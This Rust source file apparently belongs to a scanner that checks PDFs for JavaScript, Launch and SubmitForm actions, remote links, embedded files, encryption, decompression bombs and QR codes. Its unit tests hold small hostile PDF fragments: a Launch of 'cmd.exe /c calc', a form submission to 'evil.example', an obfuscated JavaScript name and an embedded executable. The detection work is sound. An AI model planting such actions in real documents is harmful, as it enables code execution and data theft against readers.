//! PDF: what runs, what starts, what is attached, where it leads, and whether a password hides it all. Jumps within the
//! document, fonts, forms and signatures are what documents are made of and say nothing.

use super::bytes::{cut, lossy};
use super::links;
use super::office_ole::NEEDS_PASSWORD;
use super::pdf_filters::STREAM_BYTES_MAX;
use super::pdf_syntax::{Object, Pdf, Value};
use super::qr;
use super::report::Report;
use super::script_text;
use guarita_message::{FileClass, GapReason};

/// Attachments handed over from one file.
const ATTACHMENTS_MAX: usize = 100;
/// Pictures searched for QR codes.
const PICTURES_MAX: usize = 24;
/// Page contents are unpacked up to here, to see what would come out of them.
const CONTENT_BYTES_MAX: usize = 96 << 20;
/// Names that nobody spells with `#` but to hide them.
const SENSITIVE: &[&str] = &[
    "JS",
    "JavaScript",
    "Launch",
    "OpenAction",
    "AA",
    "EmbeddedFile",
    "EmbeddedFiles",
    "RichMedia",
    "SubmitForm",
    "ObjStm",
    "URI",
    "GoToE",
    "GoToR",
    "Encrypt",
];
/// Attachments of invoices and of archived documents: plain data that belongs there (ZUGFeRD, Factur-X, XRechnung, NF-e).
const PLAIN_ATTACHMENTS: &[&str] = &["xml", "xmp"];

pub fn inspect(data: &[u8], report: &mut dyn Report) {
    let mut pdf = Pdf::read(data, report);
    let encrypted = pdf
        .trailers
        .iter()
        .chain(
            pdf.objects
                .iter()
                .map(|object| &object.value)
                .filter(|value| value.get("Type").and_then(Value::name) == Some("XRef")),
        )
        .any(|trailer| {
            trailer
                .get("Encrypt")
                .is_some_and(|value| *pdf.resolve(value) != Value::Null || matches!(value, Value::Reference(_)))
        });
    // Most such documents ask their readers for nothing: only changing them takes a password.
    let locked = encrypted && !pdf.unlock(report.passwords());
    if encrypted {
        let how = "encrypted; what opens without a password, or with a word of the message, was looked at";
        report.fact("files/encrypted-document", "PDF");
        report.gap(GapReason::Encrypted, FileClass::Document, if locked { NEEDS_PASSWORD } else { how });
    }
    // Names and structure stay readable; texts, streams and object streams do not.
    if !locked {
        pdf.unpack_object_streams(report);
    }
    if pdf.is_cut() {
        report.gap(GapReason::Limits, FileClass::Document, "more objects than are looked at");
    }
    let mut facts = Facts { encrypted: locked, ..Facts::default() };
    for trailer in &pdf.trailers {
        facts.walk(&pdf, trailer, 0, report);
    }
    for object in &pdf.objects {
        facts.walk(&pdf, &object.value, 0, report);
        if report.stop() {
            break;
        }
    }
    if let Some(name) = pdf.hidden_names.iter().find(|name| SENSITIVE.contains(&name.as_str())) {
        report.fact("files/pdf-hidden-name", name);
    }
    facts.say(&pdf, report);
    if !locked {
        read_contents(&pdf, report);
        read_pictures(&pdf, report);
    }
}

#[derive(Default)]
struct Facts {
    encrypted: bool,
    script: Option<String>,
    launch: Option<String>,
    submit: Option<String>,
    media: Option<String>,
    remote: Option<String>,
    xfa: bool,
    /// Name, and number of the object that holds the bytes.
    attachments: Vec<(String, Option<u32>)>,
}

impl Facts {
    fn walk(&mut self, pdf: &Pdf<'_>, value: &Value, depth: usize, report: &mut dyn Report) {
        if depth > 40 {
            return;
        }
        match value {
            Value::Array(items) => items.iter().for_each(|item| self.walk(pdf, item, depth + 1, report)),
            Value::Dict(pairs) => {
                self.dict(pdf, value, report);
                pairs.iter().for_each(|(_, inner)| self.walk(pdf, inner, depth + 1, report));
            }
            _ => {}
        }
    }

    fn dict(&mut self, pdf: &Pdf<'_>, dict: &Value, report: &mut dyn Report) {
        let action = dict.get("S").map(|value| pdf.resolve(value)).and_then(Value::name).unwrap_or_default();
        match action {
            "JavaScript" => self.script(pdf, dict.get("JS").unwrap_or(&Value::Null), report),
            "Launch" => {
                let target = dict.get("Win").map(|win| pdf.resolve(win)).and_then(|win| {
                    Some(format!(
                        "{} {}",
                        file_name(pdf, win.get("F")?),
                        file_name(pdf, win.get("P").unwrap_or(&Value::Null))
                    ))
                });
                let target = target.or_else(|| dict.get("F").map(|file| file_name(pdf, file))).unwrap_or_default();
                self.launch.get_or_insert_with(|| target.trim().to_owned());
            }
            "SubmitForm" | "ImportData" => {
                let target = dict.get("F").map(|file| file_name(pdf, file)).unwrap_or_default();
                if !self.encrypted {
                    links::say(&target, report);
                }
                self.submit.get_or_insert(target);
            }
            "GoToR" | "GoToE" => {
                let target = dict.get("F").map(|file| file_name(pdf, file)).unwrap_or_default();
                if target.starts_with("\\\\") || target.starts_with("http") || target.starts_with("//") {
                    self.remote.get_or_insert(target);
                }
            }
            "RichMediaExecute" | "Rendition" if dict.get("JS").is_some() => {
                self.script(pdf, dict.get("JS").unwrap_or(&Value::Null), report)
            }
            _ => {}
        }
        if dict.get("JavaScript").is_some_and(|value| matches!(pdf.resolve(value), Value::Dict(_))) {
            // The catalogue's tree of scripts that run when the document opens.
            self.script.get_or_insert_with(|| "runs when the document opens".to_owned());
        } else if action.is_empty()
            && dict
                .get("JS")
                .is_some_and(|value| matches!(pdf.resolve(value), Value::Text(_)) && dict.get("Type").is_none())
        {
            self.script(pdf, dict.get("JS").unwrap_or(&Value::Null), report);
        }
        if let Some(text) =
            dict.get("URI").map(|value| pdf.resolve(value)).and_then(Value::text).filter(|_| !self.encrypted)
        {
            let lower = text.trim().to_ascii_lowercase();
            if lower.starts_with("javascript:") {
                self.script.get_or_insert_with(|| cut(&text, 100).to_owned());
            } else if lower.starts_with("file:") || lower.starts_with("\\\\") {
                self.remote.get_or_insert_with(|| cut(&text, 140).to_owned());
            }
            links::say(&text, report);
        }
        let subtype = dict.get("Subtype").and_then(Value::name).unwrap_or_default();
        if matches!(subtype, "RichMedia" | "Flash" | "Screen")
            && (dict.get("RichMediaContent").is_some() || subtype == "Flash")
        {
            self.media.get_or_insert_with(|| subtype.to_owned());
        }
        self.xfa |= dict.get("XFA").is_some();
        if let Some(files) = dict.get("EF").map(|value| pdf.resolve(value)) {
            let name = ["UF", "F", "Desc"]
                .into_iter()
                .filter_map(|key| dict.get(key))
                .map(|value| file_name(pdf, value))
                .find(|name| !name.is_empty());
            let body = ["F", "UF", "DOS", "Unix", "Mac"].into_iter().find_map(|key| match files.get(key) {
                Some(Value::Reference(number)) => Some(*number),
                _ => None,
            });
            let fresh = body.is_none() || !self.attachments.iter().any(|(_, known)| *known == body);
            if self.attachments.len() < ATTACHMENTS_MAX && fresh && matches!(files, Value::Dict(_)) {
                self.attachments.push((name.unwrap_or_default(), body));
            }
        }
    }

    fn script(&mut self, pdf: &Pdf<'_>, source: &Value, report: &mut dyn Report) {
        let text = match source {
            Value::Reference(number) => pdf.object(*number).and_then(|object| {
                if object.stream.is_some() && !self.encrypted {
                    pdf.decode(object, report).map(|bytes| lossy(&bytes))
                } else {
                    object.value.text()
                }
            }),
            other => other.text(),
        };
        let text = text.unwrap_or_default();
        let shown = if self.encrypted { "encrypted script".to_owned() } else { cut(text.trim(), 120).to_owned() };
        if script_text::deeds(&text).hides {
            report.fact("files/pdf-script-hidden", &shown);
        }
        self.script.get_or_insert(shown);
    }

    fn say(&self, pdf: &Pdf<'_>, report: &mut dyn Report) {
        for (rule, seen) in [
            ("files/pdf-javascript", &self.script),
            ("files/pdf-launch", &self.launch),
            ("files/pdf-submit", &self.submit),
            ("files/pdf-rich-media", &self.media),
            ("files/pdf-remote", &self.remote),
        ] {
            if let Some(seen) = seen {
                report.fact(rule, seen);
            }
        }
        if self.xfa {
            report.fact("files/pdf-xfa", "");
        }
        let named: Vec<u32> = self.attachments.iter().filter_map(|(_, number)| *number).collect();
        for (name, number) in &self.attachments {
            self.attachment(pdf, name, number.and_then(|number| pdf.object(number)), report);
        }
        // Streams that say they are attachments although nothing names them.
        for object in
            pdf.objects.iter().filter(|object| object.stream.is_some() && !named.contains(&object.number)).take(200_000)
        {
            if object.value.get("Type").and_then(Value::name) == Some("EmbeddedFile") {
                self.attachment(pdf, "", Some(object), report);
            }
        }
    }

    fn attachment(&self, pdf: &Pdf<'_>, name: &str, object: Option<&Object>, report: &mut dyn Report) {
        let extension = name.rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
        let plain = PLAIN_ATTACHMENTS.contains(&extension.as_str());
        let shown = if self.encrypted { "encrypted" } else { name };
        report.fact(if plain { "files/pdf-attachment-data" } else { "files/pdf-embedded-file" }, shown);
        if self.encrypted {
            return;
        }
        if let Some(bytes) = object.and_then(|object| pdf.decode(object, report)) {
            if bytes.len() >= STREAM_BYTES_MAX {
                report.gap(GapReason::Limits, FileClass::Document, "an attachment is longer than is looked at");
            }
            report.child(if name.is_empty() { "attachment" } else { name }, bytes);
        }
    }
}

/// A file specification: a string, or a dictionary with one.
fn file_name(pdf: &Pdf<'_>, value: &Value) -> String {
    let value = pdf.resolve(value);
    let text = value.text().or_else(|| {
        ["UF", "F", "DOS", "Unix"]
            .into_iter()
            .find_map(|key| value.get(key).map(|inner| pdf.resolve(inner)).and_then(Value::text))
    });
    cut(text.unwrap_or_default().trim(), 200).to_owned()
}

/// Unpacks page contents and the like, to see a bomb before a viewer does.
fn read_contents(pdf: &Pdf<'_>, report: &mut dyn Report) {
    let mut total = 0usize;
    for object in &pdf.objects {
        let Some(raw) = pdf.raw(object) else { continue };
        let kind = object.value.get("Type").and_then(Value::name).unwrap_or_default();
        let picture = object.value.get("Subtype").and_then(Value::name) == Some("Image");
        let nested = pdf
            .filters(&object.value)
            .iter()
            .filter(|name| name.as_str() == "FlateDecode" || name.as_str() == "Fl")
            .count()
            > 1;
        let font = object.value.get("Length1").is_some()
            || object
                .value
                .get("Subtype")
                .and_then(Value::name)
                .is_some_and(|name| name.contains("Type1C") || name == "OpenType");
        // A handful of bytes cannot become a bomb, and fonts and pictures have bounds of their own.
        if !nested && (picture || font || raw.len() < 256 || matches!(kind, "ObjStm" | "XRef" | "EmbeddedFile")) {
            continue;
        }
        if total > CONTENT_BYTES_MAX {
            return;
        }
        match pdf.decode(object, report) {
            Some(bytes) => total += bytes.len(),
            None => return,
        }
    }
}

/// Searches the pages' pictures for QR codes.
fn read_pictures(pdf: &Pdf<'_>, report: &mut dyn Report) {
    let mut count = 0;
    for object in &pdf.objects {
        if object.stream.is_none() || object.value.get("Subtype").and_then(Value::name) != Some("Image") {
            continue;
        }
        let number = |keys: [&str; 2]| {
            keys.into_iter()
                .find_map(|key| object.value.get(key))
                .map(|value| pdf.resolve(value))
                .and_then(Value::number)
                .unwrap_or(0.0)
                .clamp(0.0, 1e6) as usize
        };
        let (width, height) = (number(["Width", "W"]), number(["Height", "H"]));
        // Nothing smaller can hold a code; nothing larger is looked at whole.
        if width < 21 || height < 21 || width.saturating_mul(height) > qr::PIXELS_MAX {
            continue;
        }
        count += 1;
        if count > PICTURES_MAX || report.stop() {
            return;
        }
        let filters = pdf.filters(&object.value);
        match filters.last().map(String::as_str) {
            Some("DCTDecode" | "DCT") => {
                if let Some(bytes) = pdf.decode(object, report) {
                    qr::in_picture(&bytes, report);
                }
            }
            Some("JPXDecode" | "JBIG2Decode" | "CCITTFaxDecode" | "CCF") => {}
            _ => {
                let bits = number(["BitsPerComponent", "BPC"]);
                let bits = if object.value.get("ImageMask").is_some() { 1 } else { bits };
                let Some(bytes) = pdf.decode(object, report) else { return };
                if let Some(luma) = luma_of(&bytes, width, height, bits) {
                    qr::in_luma(width, height, &luma, report);
                }
            }
        }
    }
}

/// Grey values of raw samples: one bit, or eight bits with as many colours as the length says.
fn luma_of(bytes: &[u8], width: usize, height: usize, bits: usize) -> Option<Vec<u8>> {
    let pixels = width.checked_mul(height)?;
    if bits == 1 {
        let row = width.div_ceil(8);
        let line = |y: usize| bytes.get(y * row..(y + 1) * row);
        let mut out = Vec::with_capacity(pixels);
        for y in 0..height {
            let line = line(y)?;
            out.extend((0..width).map(|x| if line[x / 8] >> (7 - x % 8) & 1 == 1 { 255 } else { 0 }));
        }
        return Some(out);
    }
    let colours = bytes.len() / pixels.max(1);
    if bits != 8 || !(1..=4).contains(&colours) {
        return None;
    }
    Some(
        bytes
            .chunks_exact(colours)
            .take(pixels)
            .map(|pixel| {
                let used = colours.min(3);
                (pixel.iter().take(used).map(|c| u32::from(*c)).sum::<u32>() / used as u32) as u8
            })
            .collect(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::report::tests::Seen;

    fn seen(body: &str) -> Seen {
        let mut seen = Seen::default();
        inspect(format!("%PDF-1.7\n{body}").as_bytes(), &mut seen);
        seen
    }

    #[test]
    fn what_runs_and_what_does_not() {
        let check = |body: &str, expect: &[&str]| assert_eq!(seen(body).rules(), expect, "{body}");
        check("1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]>>endobj", &[]);
        check("1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj", &["files/pdf-javascript"]);
        check(
            "1 0 obj<</S/JavaScript/JS 2 0 R>>endobj 2 0 obj<</Length 9>>stream\napp.alert\nendstream endobj",
            &["files/pdf-javascript"],
        );
        check("1 0 obj<</Names<</JavaScript 2 0 R>>>>endobj 2 0 obj<</Names[]>>endobj", &["files/pdf-javascript"]);
        check("1 0 obj<</S/J#61vaScript/JS(x)>>endobj", &["files/pdf-hidden-name", "files/pdf-javascript"]);
        check("trailer<</Root<</OpenAction<</S/JavaScript/JS(x)>>>>>>", &["files/pdf-javascript"]);
        check("1 0 obj<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>endobj", &["files/pdf-launch"]);
        check("1 0 obj<</S/SubmitForm/F(https://evil.example/p)>>endobj", &["files/pdf-submit"]);
        check("1 0 obj<</FT/Sig/Type/Sig/Filter/Adobe.PPKLite>>endobj", &[]);
        check("1 0 obj<</F#6fnt 1>>endobj", &[]);
        check("1 0 obj<</Length 20>>stream\n/S/JavaScript/JS(x) \nendstream endobj", &[]);
    }

    #[test]
    fn attachments_by_what_they_are() {
        let file = |name: &str| {
            format!(
                "1 0 obj<</Type/Filespec/F({name})/EF<</F 2 0 R>>>>endobj 2 0 obj<</Type/EmbeddedFile/Length 4>>stream\nMZ\x01\x02\nendstream endobj"
            )
        };
        let seen_exe = seen(&file("a.exe"));
        assert_eq!(seen_exe.rules(), ["files/pdf-embedded-file"]);
        assert_eq!(seen_exe.children, [("a.exe".to_owned(), b"MZ\x01\x02".to_vec())]);
        assert_eq!(seen(&file("factur-x.xml")).rules(), ["files/pdf-attachment-data"]);
    }

    #[test]
    fn passwords_are_a_gap() {
        let seen = seen("trailer<</Encrypt 5 0 R/Root 1 0 R>>");
        assert_eq!(
            (seen.rules(), seen.gaps.as_slice()),
            (vec!["files/encrypted-document"], &[GapReason::Encrypted][..])
        );
    }

    #[test]
    fn links_go_on() {
        assert_eq!(seen("1 0 obj<</A<</S/URI/URI(https://a.example/x)>>>>endobj").links, ["https://a.example/x"]);
    }
}
